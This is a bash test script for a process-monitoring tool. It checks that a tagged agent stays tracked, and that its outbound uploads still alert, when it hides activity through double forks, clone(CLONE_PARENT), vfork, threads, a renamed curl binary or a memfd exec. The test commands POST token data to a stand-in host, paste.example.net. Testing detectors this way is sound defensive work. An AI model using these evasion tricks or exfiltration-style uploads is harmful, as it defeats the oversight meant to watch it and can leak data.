#!/bin/bash
# Evasion by process tricks (cases 1-5 of tests/evasion/README.md): a tagged
# agent that double-forks with setsid (the grandchild reparented away), clones
# with CLONE_PARENT, vforks, posix_spawns, works from a second thread, runs a
# copy of curl renamed "innocent", or runs curl from a memfd
# (execveat(AT_EMPTY_PATH)) stays tagged: every event carries the agent and
# the root's agent_pid, threads report pid = tgid with their own tid, and the
# POSTs still alert (cleartext and, through the renamed copy, TLS).
. "$(dirname "$0")/lib.sh"

command -v curl >/dev/null || skip "needs curl"
command -v openssl >/dev/null || skip "needs openssl"
evade=$(ev_build evade "$EV_HELPERS/evade.c" -lpthread) || fail "cannot build helpers/evade.c"

openssl req -x509 -newkey rsa:2048 -nodes -keyout "$T/key.pem" -out "$T/cert.pem" -days 2 \
	-subj /CN=paste.example.net -addext "subjectAltName=DNS:paste.example.net" 2>/dev/null ||
	fail "cannot make a certificate"
bg "$PY" "$HELPERS/https_server.py" --plain --port-file "$T/port" --log "$T/plain.log" >/dev/null 2>&1
bg "$PY" "$HELPERS/https_server.py" --port-file "$T/tport" --log "$T/tls.log" \
	--cert "$T/cert.pem" --key "$T/key.pem" >/dev/null 2>&1
bg "$PY" "$HELPERS/listener.py" "$T/ports" 60 >/dev/null 2>&1
wait_file "$T/port"
wait_file "$T/tport"
wait_file "$T/ports"
port=$(cat "$T/port")
tport=$(cat "$T/tport")
read -r v4 _ _ <"$T/ports"
start_collector

CURL=(/usr/bin/curl -sS -o /dev/null --max-time 10 --resolve "paste.example.net:$port:127.0.0.1"
	--resolve "paste.example.net:$tport:127.0.0.1" --cacert "$T/cert.pem")
url() { echo "http://paste.example.net:$port/$1"; }
# root_of AGENT: pid of the launched process (the agent's root)
root_of() { field pid type=exec agent="$1" agent_pid!=0; }

# ---- 1. double fork + setsid, reparented; 1b. clone(CLONE_PARENT) ----
launch lin-dfork "$evade" dfork "$T/dfork" "${CURL[@]}" -d 'token=dfork' "$(url dfork)" ||
	fail "double-fork launch failed"
wait_file "$T/dfork"
read -r gc mid ppid_after <"$T/dfork"
[ "$ppid_after" != "$mid" ] || fail "test bug: the grandchild was not reparented"
wait_event 10 type=alert rule=outbound_post agent=lin-dfork pid="$gc" host=paste.example.net path=/dfork
root=$(root_of lin-dfork) || exit 1
[ "$root" != "$gc" ] || fail "test bug: root and grandchild are one process"
expect 1 type=alert rule=outbound_post agent=lin-dfork pid="$gc" agent_pid="$root"
expect 1 type=open agent=lin-dfork agent_pid="$root" pid="$gc" path="$T/dfork.tmp" write=true
expect 1 type=exec agent=lin-dfork agent_pid="$root" pid="$gc" ppid="$ppid_after" filename=/usr/bin/curl
expect 1 type=exit agent=lin-dfork agent_pid="$root" pid="$mid"
wait_event 5 type=http agent=lin-dfork agent_pid="$root" pid="$gc" method=POST path=/dfork

launch lin-cparent "$evade" cloneparent "$T/cparent" /usr/bin/touch "$T/cparent.marker" ||
	fail "clone(CLONE_PARENT) launch failed"
wait_file "$T/cparent"
sib=$(cat "$T/cparent")
wait_event 5 type=open agent=lin-cparent pid="$sib" path="$T/cparent.marker" write=true
root=$(root_of lin-cparent) || exit 1
# its parent is the launcher's parent (this shell), not the agent
expect 1 type=exec agent=lin-cparent agent_pid="$root" pid="$sib" ppid=$$ filename=/usr/bin/touch
expect 1 type=open agent=lin-cparent agent_pid="$root" pid="$sib" path="$T/cparent.marker"

# ---- 2. vfork and posix_spawn ----
for how in vfork spawn; do
	launch "lin-$how" "$evade" "$how" "$T/$how" /usr/bin/touch "$T/$how.marker" ||
		fail "$how launch failed"
	child=$(cat "$T/$how")
	wait_event 5 type=open agent="lin-$how" pid="$child" path="$T/$how.marker" write=true
	root=$(root_of "lin-$how") || exit 1
	expect 1 type=exec agent="lin-$how" agent_pid="$root" pid="$child" ppid="$root" filename=/usr/bin/touch
	expect 1 type=open agent="lin-$how" agent_pid="$root" pid="$child" path="$T/$how.marker" write=true
done

# ---- 3. a second thread opens a file and connects ----
launch lin-thread "$evade" thread "$T/thread" "$T/thread.marker" 127.0.0.1 "$v4" ||
	fail "thread launch failed"
read -r tpid ttid <"$T/thread"
[ "$tpid" != "$ttid" ] || fail "test bug: the thread has the process's id"
wait_event 5 type=connect agent=lin-thread pid="$tpid" tid="$ttid"
expect 1 type=open agent=lin-thread agent_pid="$tpid" pid="$tpid" tid="$ttid" path="$T/thread.marker" write=true
expect_min 1 type=connect agent=lin-thread agent_pid="$tpid" pid="$tpid" tid="$ttid" proto=tcp \
	daddr=127.0.0.1 dport="$v4" ret=0

# ---- 4. curl copied and renamed; cleartext and TLS (libssl's uprobes) ----
mkdir -p "$T/x" || fail "cannot make $T/x"
cp /usr/bin/curl "$T/x/innocent" || fail "cannot copy curl"
launch lin-renamed "$T/x/innocent" "${CURL[@]:1}" -d 'token=renamed' "$(url renamed)" ||
	fail "renamed curl failed"
launch lin-renamed-tls "$T/x/innocent" "${CURL[@]:1}" -d 'token=renamed' \
	"https://paste.example.net:$tport/renamed-tls" || fail "renamed curl over TLS failed"
for a in lin-renamed lin-renamed-tls; do
	wait_event 5 type=alert rule=outbound_post agent="$a" comm=innocent exe="$T/x/innocent" \
		method=POST host=paste.example.net
	expect 1 type=exec agent="$a" filename="$T/x/innocent"
done
wait_event 5 type=http agent=lin-renamed-tls method=POST path=/renamed-tls tls=true

# ---- 5. curl run from a memfd with execveat(fd, "", AT_EMPTY_PATH) ----
launch lin-memfd "$evade" memfd /usr/bin/curl curl "${CURL[@]:1}" -d 'token=memfd' "$(url memfd)" ||
	fail "memfd exec failed"
wait_event 5 type=alert rule=outbound_post agent=lin-memfd host=paste.example.net path=/memfd
root=$(root_of lin-memfd) || exit 1
expect 2 type=exec agent=lin-memfd pid="$root"
expect 1 type=exec agent=lin-memfd pid="$root" agent_pid="$root" filename~'^/dev/fd/[0-9]+$' \
	argv~'^\["curl",'
memfd_name=$(field filename type=exec agent=lin-memfd filename~^/dev/fd/) || exit 1
memfd_comm=$(field comm type=exec agent=lin-memfd filename~^/dev/fd/) || exit 1
expect 1 type=alert rule=outbound_post agent=lin-memfd pid="$root" agent_pid="$root" exe="$memfd_name"

# the server saw every POST: these were real uploads, not refused ones
for p in dfork renamed memfd; do
	grep -q "\"path\": \"/$p\"" "$T/plain.log" || fail "the server did not get the POST to /$p"
done
grep -q '"path": "/renamed-tls"' "$T/tls.log" || fail "the TLS server did not get the POST"
stop_collector
pass "double fork (reparented to $ppid_after), CLONE_PARENT, vfork, posix_spawn: tagged with the root's agent_pid; thread events pid=tgid tid=$ttid; renamed curl (http+https) and memfd exec ($memfd_name, comm $memfd_comm) alert"
